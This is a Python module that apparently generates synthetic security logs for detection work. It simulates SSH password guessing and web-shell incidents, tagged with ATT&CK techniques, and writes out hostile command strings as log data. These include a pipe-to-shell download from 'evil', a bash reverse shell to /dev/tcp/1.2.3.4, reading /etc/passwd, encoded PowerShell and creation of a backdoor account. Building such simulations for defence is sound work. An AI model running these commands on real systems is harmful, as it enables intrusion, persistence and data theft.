"""Incidents on Linux hosts and web servers."""

from __future__ import annotations

from datetime import timedelta

from steps import CMD, PS, M, S, begin, remote
from world import Truth, World


def ssh_force(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = begin(w)
    host, ip = r.choice(w.linux), w.evil_ip()
    names = r.sample(["root", "admin", "test", "oracle", "git", "ubuntu", "postgres"], r.randint(2, 5))
    real = r.choice(w.users[:3])
    win = r.choice(["root", real, "deploy"]) if r.random() < 0.8 else None
    if win and win not in names:
        names.append(win)
    if win == real:
        w.ssh(at - timedelta(minutes=r.randint(30, 300)), real, host, w.ips[w.ws[real]])
        w.lproc(at - timedelta(minutes=r.randint(20, 29)), host, real, "ls")
    ids = [w.ssh(at + timedelta(seconds=3 * i), r.choice(names), host, ip, ok=False) for i in range(r.randint(12, 60))]
    ids += [w.ssh(at + timedelta(seconds=200 + 3 * i), n, host, ip, ok=False) for i, n in enumerate(names)]
    w.hit(
        ids[: r.choice([5, 100])],
        "SSH password guessing",
        r.choice(["medium", "high"]),
        ["T1110.001"],
        ["credential-access"],
        0.95,
    )
    for n in names:
        t.roles[n] = "targeted"
    if not win:
        return
    at += 10 * M
    eid = w.ssh(at, win, host, ip)
    w.hit(eid, "SSH success after failures", "high", ["T1110.001"], ["initial-access"], 0.6)
    t.roles[win] = "compromised" if win == real else "attacker"
    eid = w.lproc(at + 30 * S, host, win, "curl -s http://evil/x.sh | bash")
    w.hit(eid, "Pipe to shell", "high", ["T1059.004"], ["execution"], 0.9)
    eid = w.lproc(at + 60 * S, host, win, "crontab -e", run_as="root")
    w.hit(eid, "Cron changed", "medium", ["T1053.003"], ["persistence"], 0.7)
    if r.random() < 0.5:
        new = r.choice(["sysd", "backup2", "svcadm"])
        eid = w.lproc(at + 2 * M, host, win, f"useradd -m -s /bin/bash {new}", run_as="root")
        w.hit(eid, "useradd", "medium", ["T1136.001"], ["persistence"], 0.8)
        if r.random() < 0.5:
            w.add(
                at + 2 * M + S,
                class_name="account_change",
                activity="create",
                log_product="linux",
                log_service="auth",
                device_name=host,
                user_name=new,
                actor_name=None,
            )
        t.roles[new] = "created"
        if w.rules.get("useradd", {}).get("on") is False:
            t.roles.pop(new)
        if r.random() < 0.5 and new in t.roles:
            w.ssh(at + 9 * M, new, host, ip)


def web_shell(w: World, t: Truth) -> None:
    r = w.rng
    dormant = r.random() < 0.5
    second = r.choice(w.svcs) if dormant else r.choice(w.admins)
    at, _ = begin(w, frozenset({second}) if dormant else frozenset())
    if r.random() < 0.55:
        host, service = r.choice(w.linux), r.choice(["www-data", "tomcat", "webapp", "apache"])
        for i, (c, sev) in enumerate(
            [
                ("bash -c 'bash -i >& /dev/tcp/1.2.3.4/443 0>&1'", "high"),
                ("whoami", "medium"),
                ("cat /etc/passwd", "medium"),
            ]
        ):
            eid = w.lproc(at + i * 20 * S, host, service, c, attended=False, parent="/usr/sbin/apache2")
            w.hit(
                eid,
                f"Web server ran {c.split()[0]}",
                sev,
                ["T1505.003"],
                ["persistence" if i == 0 else "discovery"],
                0.9,
            )
        if r.random() < 0.4:
            user = r.choice(w.users[:3])
            w.ssh(at - timedelta(minutes=r.randint(40, 200)), user, r.choice(w.linux), w.ips[w.ws[user]])
            other = r.choice([h for h in w.linux if h != host])
            w.ssh(at + 20 * M, user, other, w.ips[host])
            eid = w.lproc(at + 21 * M, other, user, "tar czf /tmp/x.tgz /srv")
            w.hit(eid, "Data staged", "high", ["T1074.001"], ["collection"], 0.9)
            t.roles[user] = "compromised"
        return
    host = r.choice(w.servers)
    ids, uid = w.proc(
        at,
        host,
        "DefaultAppPool",
        CMD,
        "cmd /c whoami",
        parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe",
        domain="IIS APPPOOL",
        session="0x9a1",
    )
    w.hit(ids, "Shell from the web server", "high", ["T1505.003"], ["persistence"], 0.95)
    ids, _ = w.proc(
        at + 2 * M,
        host,
        "DefaultAppPool",
        PS,
        "powershell -enc SQ",
        parent=CMD,
        parent_uid=uid,
        domain="IIS APPPOOL",
        session="0x9a1",
    )
    w.hit(ids, "Encoded PowerShell", "high", ["T1059.001"], ["execution"], 0.9)
    if r.random() < 0.6:
        if not dormant:
            base = r.choice(list(w.ws.values()))
            w.logon(at - 90 * M, second, base, kind="2")
        remote(w, at + 15 * M, second, host, r.choice([h for h in [*w.servers, w.dc] if h != host]), ntlm=True)
        t.roles[second] = "attacker" if dormant else "compromised"
